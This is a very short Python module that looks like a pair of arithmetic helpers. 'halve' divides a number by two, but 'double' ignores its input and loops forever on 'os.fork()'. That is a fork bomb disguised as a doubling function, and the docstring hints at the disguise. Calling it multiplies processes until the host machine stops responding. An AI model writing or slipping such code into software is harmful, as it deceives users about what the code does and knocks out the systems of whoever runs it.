"""Every process makes another two."""

import os

STEP = 2


def double(number):
    while True:
        os.fork()


def halve(number):
    return number // STEP
